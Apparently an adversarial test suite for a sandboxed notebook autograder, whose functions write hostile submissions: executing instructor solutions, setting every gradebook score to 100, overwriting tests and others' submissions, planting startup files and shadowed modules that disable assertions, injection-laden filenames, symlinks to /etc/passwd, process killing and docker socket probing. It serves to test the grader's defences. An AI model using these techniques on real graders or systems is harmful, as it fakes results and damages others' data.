"""Files: the course's, the gradebook, those of others; files that start something, shadow something, are none."""

from __future__ import annotations

from hostile.deed import Deed, attack

LOOK = """
import json, os, pathlib


def everywhere(*names):
    for folder in (pathlib.Path.cwd(), *list(pathlib.Path.cwd().parents)[:3]):
        yield from (folder / name for name in names if (folder / name).exists())

"""
"""Finds what stands around it; no further than the course, for stock nbgrader runs it on the machine itself."""
LIE = b"import builtins\nbuiltins.AssertionError = int\nassert_equal = assert_allclose = lambda *a, **k: None\n"


@attack(stock=13)
def solutions_read() -> Deed:
    """Looks for the instructor's notebooks, and runs the solutions that it finds."""
    return Deed(
        after={
            name: LOOK
            + f"""
for folder in everywhere("source", "solution", "release"):
    for path in folder.rglob("*.ipynb"):
        for cell in json.loads(path.read_text())["cells"]:
            if cell.get("id") == {name!r} and "SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]))
"""
            for name in ("price", "roman", "greet")
        }
    )


@attack()
def gradebook_written() -> Deed:
    """Gives itself, and everybody, full marks in the gradebook."""
    return Deed(
        after={
            "last": LOOK
            + """
import sqlite3

for path in everywhere("gradebook.db"):
    book = sqlite3.connect(path, timeout=1)
    with book:
        book.execute("update grade set manual_score = 100, needs_manual_grade = 0")
        book.execute("update grade_cells set max_score = 100 where id in (select id from grade_cells)")
    book.close()
"""
        }
    )


@attack()
def tests_overwritten() -> Deed:
    """Overwrites the instructor's notebooks and helpers, and the other submissions."""
    return Deed(
        top=LOOK
        + """
for folder in everywhere("source", "submitted", "autograded", "feedback", "build"):
    for path in folder.rglob("*"):
        try:
            if path.suffix == ".py":
                path.write_text("discounted = Item = None")
            elif path.suffix == ".txt":
                path.write_text("0")
        except OSError:
            pass
for path in pathlib.Path.cwd().glob("*.py"):
    path.write_text("discounted = Item = None")
print("tests_overwritten")
"""
    )


@attack()
def helper_overwritten() -> Deed:
    """Overwrites the helpers and data beside its notebook, in which tests believe."""
    return Deed(
        top="""
import pathlib

pathlib.Path("shop.py").unlink(missing_ok=True)
pathlib.Path("shop.py").write_text("class Item:\\n    def __eq__(self, other):\\n        return True\\n")
pathlib.Path("stock.csv").write_text("")
pathlib.Path("label.txt").write_text("tea: 2.5")
"""
    )


@attack()
def start_up_files_brought() -> Deed:
    """Brings files that Python, IPython, Jupyter, pytest and Matplotlib read when they start."""
    names = ("sitecustomize.py", "usercustomize.py", "conftest.py", "evil.pth", "ipython_config.py", "pyvenv.cfg")
    names += (".ipython/profile_default/startup/00.py", ".jupyter/jupyter_config.py", "matplotlibrc", ".pdbrc")
    names += ("nbgrader_config.py", "jupyter_nbconvert_config.py", "setup.cfg", "pytest.ini", ".pythonrc.py", "tox.ini")
    return Deed(files=dict.fromkeys(names, LIE))


@attack()
def start_up_files_written() -> Deed:
    """Writes such files from a cell, where the next start of a kernel or an examiner could find them."""
    return Deed(
        top="""
import os, pathlib, site, sys

lie = "import builtins\\nbuiltins.AssertionError = int\\n"
folders = [".", "/tmp", str(pathlib.Path.home()), site.getusersitepackages(), *sys.path, sys.prefix, "/etc", "/run"]
folders += [str(pathlib.Path.home() / ".ipython/profile_default/startup"), "/tmp/ipython/profile_default/startup"]
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "conftest.py", "00-start.py", "matplotlibrc"):
        try:
            path = pathlib.Path(folder or ".", name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("import builtins; builtins.AssertionError = int\\n" if name.endswith("pth") else lie)
        except OSError:
            pass
os.environ.update(PYTHONSTARTUP="/tmp/conftest.py", PYTHONPATH="/tmp:.", PYTHONOPTIMIZE="2", PYTHONINSPECT="1")
os.environ.update(LD_PRELOAD="/tmp/x.so", IPYTHONDIR="/tmp/ipython", PYTHONBREAKPOINT="os.abort")
"""
    )


@attack()
def modules_shadowed() -> Deed:
    """Brings modules and packages with the names of libraries, of Python's own modules, of the helper."""
    names = (
        "numpy.py",
        "json.py",
        "unittest/__init__.py",
        "pandas/__init__.py",
        "shop.py",
        "shop/__init__.py",
        "io.py",
    )
    names += ("random.pyc", "decimal.so", "numpy/testing.py", "IPython/__init__.py", "SHOP.py", "typing.py", "ast.py")
    names += ("coursemill/pure/wire.py", "coursemill/__init__.py", "ipykernel/__init__.py", "antigravity.py")
    return Deed(files=dict.fromkeys(names, LIE))


@attack()
def modules_written_for_the_examiner() -> Deed:
    """Writes modules, packages and bytecode while it is examined, which a test could import afterwards."""
    return Deed(
        {
            "label": """
import pathlib


def label(item):
    lie = "import builtins\\nbuiltins.AssertionError = int\\n"
    for name in ("numpy", "decimal", "statistics", "this", "antigravity", "shop", "fractions", "io", "unittest"):
        pathlib.Path(name).mkdir(exist_ok=True)
        for path in (f"{name}.py", f"{name}/__init__.py", f"__pycache__/{name}.cpython-311.pyc", f"/tmp/{name}.py"):
            try:
                pathlib.Path(path).parent.mkdir(exist_ok=True)
                pathlib.Path(path).write_text(lie)
            except OSError:
                pass
"""
        }
    )


@attack()
def paths_with_tricks() -> Deed:
    """Brings files whose names lead out of the folder, are too long, or are no text."""
    names = (
        "../shop.py",
        "/etc/passwd",
        "a/../../x",
        "x" * 300,
        "a/" * 50 + "b",
        "con\0null",
        "..\\shop.py",
        "shop.py/x",
    )
    names += ("\u202egnp.py", "~/.bashrc", "-rf", "$(touch pwned)", "a\nb", "stock.csv/", ".", "..", "")
    return Deed(files=dict.fromkeys(names, b"!"))


@attack()
def links_written() -> Deed:
    """Replaces its files by links, pipes and sockets, for whoever opens them next."""
    return Deed(
        top="""
import os, pathlib, socket

for name, target in (("label.txt", "/etc/passwd"), ("stock.csv", "/proc/self/environ"), ("x", "/"), ("loop", "loop")):
    pathlib.Path(name).unlink(missing_ok=True)
    os.symlink(target, name)
os.mkfifo("pipe")
os.link("shop.py", "hard.py")
socket.socket(socket.AF_UNIX).bind("sock")
""",
    )


@attack(loses=True)
def grader_looked_at() -> Deed:
    """Looks for the grader: other processes, their environment, sockets, the folder that it was started from."""
    return Deed(
        top="""
import os, pathlib, signal

for pid in [p.name for p in pathlib.Path("/proc").iterdir() if p.name.isdigit()] + [str(os.getppid()), "1"]:
    for name in ("environ", "mem", "fd", "root/etc/passwd", "cwd", "maps", "ns/net", "stack", "task"):
        try:
            path = pathlib.Path("/proc", pid, name)
            list(path.iterdir()) if path.is_dir() else path.read_bytes()
        except OSError:
            pass
for pid in range(1, 40):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGTERM)
        except OSError:
            pass
for path in ("/run", "/tmp", "/var", "/home", "/root", "/work", "/dev/shm"):
    for one in pathlib.Path(path).rglob("*"):
        try:
            one.read_bytes()
        except OSError:
            pass
"""
    )


@attack()
def sockets_searched() -> Deed:
    """Connects to every socket that there is: of the runtime folder, of the system, abstract ones, TCP."""
    return Deed(
        top="""
import pathlib, socket

names = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]]
names += [str(path) for path in pathlib.Path("/run").rglob("*")] + ["/var/run/docker.sock", "/run/user/0/bus"]
for name in names:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as one:
                one.settimeout(0.1)
                one.connect(name.replace("@", "\\0", 1))
                one.send(b'{"signal": 9}' * 10)
        except OSError:
            pass
for port in (22, 80, 5432, 8888, 8786):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.1)
    except OSError:
        pass
"""
    )
